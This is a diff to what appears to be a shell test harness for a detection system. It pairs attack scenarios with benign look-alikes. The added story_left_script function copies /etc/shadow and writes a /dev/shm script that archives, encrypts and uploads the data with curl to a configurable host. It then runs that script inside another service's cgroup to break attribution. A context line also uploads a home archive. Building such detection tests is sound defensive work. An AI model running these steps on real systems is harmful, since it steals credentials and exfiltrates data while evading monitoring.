@@ -59,6 +59,16 @@ story_cloud_keys() {
   bash -c "tar czf out.tgz home; curl -s -T out.tgz $url/; true"
 }
 
+# A session leaves a script, and a job of another service runs it later: only the file connects them.
+story_left_script() {
+  bash -c 'who; id; ss -tn; true' > /dev/null
+  bash -c 'cat /etc/shadow > copied; true'
+  printf '#!/bin/bash\ntar czf out.tgz copied\nopenssl enc -aes-256-cbc -pbkdf2 -k word -in out.tgz -out out.enc\ncurl -s -T out.enc %s/\ntrue\n' "$url" > /dev/shm/story-job
+  bash -c 'chmod 755 /dev/shm/story-job; true'
+  (echo $BASHPID > "$elsewhere/cgroup.procs" && exec setsid bash -c '/dev/shm/story-job; true')
+  rm -f /dev/shm/story-job
+}
+
 # An administrator finds out why a disk is full, and keeps the logs.
 twin_administrator() {
   bash -c 'w; id; uname -r; df -h; ps aux; ss -tln; true' > /dev/null
@@ -73,6 +83,14 @@ twin_deploy() {
   bash -c 'cp /bin/true app/server; chmod 755 app/server; app/server; true'
   bash -c 'id -u; hostname; uname -m; true' > /dev/null
   bash -c "curl -s $url/health; true" > /dev/null
+}
+
+# A deployment leaves a script that a job of another service runs: the file connects them, and nothing of it is an attack.
+twin_left_script() {
+  printf '#!/bin/bash\ntar czf data.tgz --exclude=data.tgz .\ncurl -s -T data.tgz %s/\ntrue\n' "$url" > /dev/shm/story-backup
+  bash -c 'chmod 755 /dev/shm/story-backup; id -u; hostname; true' > /dev/null
+  (echo $BASHPID > "$elsewhere/cgroup.procs" && exec setsid bash -c '/dev/shm/story-backup; true')
+  rm -f /dev/shm/story-backup
 }
 
 # A program is built, as configure scripts do it.
